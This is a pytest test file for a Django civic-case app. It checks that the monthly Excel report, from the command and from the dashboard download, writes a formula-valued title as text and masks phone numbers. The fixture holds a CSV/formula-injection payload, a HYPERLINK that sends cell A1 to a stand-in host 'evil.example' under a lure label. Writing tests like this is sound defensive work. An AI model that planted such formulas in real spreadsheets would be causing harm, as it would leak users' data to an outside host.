"""Issue 10, finding 3: a title that is a formula stays text in the monthly report (`gridgov report` and
/dashboard/report.xlsx), and phone numbers typed with hyphens or spaces are masked there."""

import io
from datetime import datetime
from io import StringIO

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command

from gridgov.assessment import services
from tests.cases import helpers

MONTH = "2026-09"
AT = datetime.fromisoformat("2026-09-08T09:30:00+08:00")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看详情")'


@pytest.fixture
def hostile(demo_city):
    helpers.report(at=AT, title=FORMULA)
    helpers.report(at=AT, title="路灯不亮 请回电138-1234-5678 或 139 8765 4321", description="电话 +86 137-0000-1111")
    services.catch_up()


def ledger(book) -> list:
    return list(book["案件台账"].iter_rows(min_row=2))


def check(book):
    cells = [c for row in ledger(book) for c in row]
    formula = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert formula and all(c.value == "'" + FORMULA and c.data_type == "s" for c in formula)
    assert all(c.data_type != "f" for sheet in book for row in sheet.iter_rows() for c in row)
    texts = "\n".join(str(c.value) for c in cells if c.value is not None)
    assert "138****5678" in texts and "139****4321" in texts
    for raw in ("138-1234-5678", "1234-5678", "139 8765 4321", "8765"):
        assert raw not in texts


def test_the_command_writes_formulas_as_text_and_masks_phones(hostile, tmp_path):
    target = tmp_path / "r.xlsx"
    call_command("report", "--month", MONTH, "--region", "410102", "--output", str(target), stdout=StringIO())
    check(openpyxl.load_workbook(target))


def test_the_dashboard_download_too(hostile, client):
    client.force_login(get_user_model().objects.get(username="leader"))
    r = client.get("/dashboard/report.xlsx", {"region": "410102", "month": MONTH})
    assert r.status_code == 200
    check(openpyxl.load_workbook(io.BytesIO(r.content)))
